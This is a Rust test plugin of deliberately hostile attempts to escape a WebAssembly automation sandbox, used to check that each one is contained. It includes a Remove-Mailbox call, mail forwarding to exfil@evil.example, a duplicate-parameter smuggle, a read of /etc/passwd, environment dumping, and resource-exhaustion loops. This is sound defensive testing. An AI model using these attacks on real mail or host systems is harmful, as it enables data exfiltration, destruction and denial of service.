//! Each attack tries one way out of the sandbox. Attacks whose containment
//! is an error the plugin can observe (a denied call, a failed file open)
//! report what they saw, so the test can assert the exact answer; attacks
//! on the host's limits simply never finish on their own.

use exorun_sdk::{Automation, Error, cmdlet, input};

struct Hostile;

impl Automation for Hostile {
    fn run() -> Result<String, Error> {
        let attack = input("attack")
            .and_then(|a| a.as_text().map(str::to_owned))
            .unwrap_or_default();
        match attack.as_str() {
            "undeclared-cmdlet" => {
                cmdlet("Remove-Mailbox")
                    .param("Identity", "ceo@contoso.com")
                    .invoke()?;
            }
            "value-outside-set" => {
                cmdlet("Set-Mailbox")
                    .param("Identity", "ceo@contoso.com")
                    .param("ForwardingSmtpAddress", "exfil@evil.example")
                    .invoke()?;
            }
            "value-outside-pattern" => {
                cmdlet("Set-Mailbox")
                    .param("Identity", "ceo@fabrikam.com")
                    .param("ForwardingSmtpAddress", None::<&str>)
                    .invoke()?;
            }
            "unlisted-parameter" => {
                cmdlet("Get-Mailbox")
                    .param("Filter", "Name -like '*'")
                    .invoke()?;
            }
            "duplicate-parameter" => {
                cmdlet("Set-Mailbox")
                    .param("Identity", "ann@contoso.com")
                    .param("IDENTITY", "ceo@fabrikam.com")
                    .invoke()?;
            }
            "call-budget" => {
                for i in 0.. {
                    cmdlet("Get-Mailbox")
                        .param("Identity", format!("user{i}"))
                        .invoke()?;
                }
            }
            "read-file" => {
                let etc = std::fs::read_to_string("/etc/passwd")
                    .map(|_| ())
                    .map_err(|e| e.kind());
                let cwd = std::fs::read_dir(".").map(|_| ()).map_err(|e| e.kind());
                return Ok(format!("etc: {etc:?}; cwd: {cwd:?}"));
            }
            "environment" => {
                let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                let args: Vec<String> = std::env::args().collect();
                return Ok(format!("vars: {vars:?}; args: {args:?}"));
            }
            "socket" => {
                let port = input("port").and_then(|p| p.as_integer()).unwrap_or(9);
                let result = std::net::TcpStream::connect(("127.0.0.1", port as u16))
                    .map(|_| ())
                    .map_err(|e| e.kind());
                return Ok(format!("connect: {result:?}"));
            }
            "loop" => {
                let mut n = 0u64;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "stack" => {
                let limit = input("port").and_then(|p| p.as_integer()).unwrap_or(9);
                return Ok(recurse(0, u64::MAX - limit as u64).to_string());
            }
            "stdout-flood" => {
                let line = "x".repeat(1024);
                loop {
                    println!("{line}");
                }
            }
            "huge-output" => {
                return Ok("y".repeat(24 << 20));
            }
            "trap" => {
                panic!("hostile plugin panicked on purpose");
            }
            other => return Err(Error::other(format!("unknown attack '{other}'"))),
        }
        Ok("the attack was not stopped".into())
    }
}

/// Recurses until the stack runs out. The limit comes from an input, so
/// the compiler cannot bound the recursion, and the result is combined
/// after the call, so it cannot become a loop. No local lives in linear
/// memory, so it is wasm's own call stack that overflows.
#[inline(never)]
fn recurse(depth: u64, limit: u64) -> u64 {
    if depth >= limit {
        return depth;
    }
    (1 + recurse(depth + 1, limit)) ^ depth
}

exorun_sdk::export!(Hostile);
